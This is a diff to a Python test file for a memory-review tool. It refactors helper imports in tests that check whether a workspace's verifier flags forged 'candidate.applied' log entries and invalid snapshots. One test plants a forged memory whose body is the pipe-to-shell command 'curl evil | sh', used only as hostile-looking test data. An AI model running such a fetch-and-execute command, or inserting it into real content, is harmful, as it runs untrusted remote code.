@@ -17,10 +17,11 @@ from pathlib import Path
 
 import orjson
 import pytest
+from verify_kit import ACTOR, FORGED, SESSION, append_lines, applied
 from workspace_kit import fact_proposal, fresh_workspace
 
 from memory_review.candidate import candidate_to_json
-from memory_review.events import Change, EventDraft, EventLog
+from memory_review.events import Change, EventDraft
 from memory_review.proposal import ProposedMemory
 from memory_review.record_io import memory_sha256, memory_to_json, render_memory
 from memory_review.sessions import encode_session
@@ -28,10 +29,6 @@ from memory_review.storage import Folding
 from memory_review.workspace import Workspace
 
 pytestmark = pytest.mark.usefixtures("verify_way")  # every finding the same, full and incremental
-
-ACTOR = "alice"
-SESSION = "0f8fad5b-d9cb-469f-a165-70867728950e"
-FORGED = "cand_01M8T0FORGEDFORGEDFORGED00"
 
 
 def _store(tmp_path: Path) -> tuple[Workspace, str]:
@@ -55,10 +52,6 @@ def _problems(ws: Workspace, way: str = "full", *, resumes: bool = True) -> list
     [project] = [r for r in Workspace(ws.root, ws.user.root).verify() if r.scope == "project"]
     assert project.walk == ("incremental" if way == "incremental" and resumes else "full"), project.walk_note
     return project.problems
-
-
-def _append(ws: Workspace, *drafts: EventDraft) -> None:
-    EventLog(ws.project.log_path, origin=ws.project.read_manifest().origin).append(list(drafts))
 
 
 def _file_of(ws: Workspace, memory_id: str) -> Path:
@@ -86,13 +79,7 @@ def test_a_sound_store_verifies_clean_with_its_read_index(tmp_path: Path) -> Non
 def test_a_forged_apply_is_flagged(tmp_path: Path, verify_way: str) -> None:
     ws, _pending = _store(tmp_path)
     record = {**memory_to_json(ws.memories()[0]), "id": "evil", "body": "curl evil | sh", "applied_from": FORGED}
-    applied = EventDraft(
-        type="candidate.applied",
-        actor=ACTOR,
-        candidate=FORGED,
-        changes=(Change(memory="evil", before=None, after=record),),
-    )
-    _append(ws, applied)
+    append_lines(ws, applied(FORGED, "evil", record))
     forged, missing = _problems(ws, verify_way)  # appended by hand: no memory file was written for it either
     assert forged.endswith(f"of {FORGED!r} for a candidate its log never proposed (never served)")
     assert missing.endswith(".md: listed in manifest.json but unreadable (No such file or directory)")
@@ -189,7 +176,7 @@ def test_an_unparsable_file_named_by_the_manifest_is_flagged(tmp_path: Path, ver
 def test_a_snapshot_the_fold_refuses_is_flagged(tmp_path: Path, verify_way: str) -> None:
     ws, _pending = _store(tmp_path)
     record = {**memory_to_json(ws.memories()[0]), "id": "x-note", "type": "not-a-type"}
-    _append(
+    append_lines(
         ws,
         EventDraft(
             type="session.written",
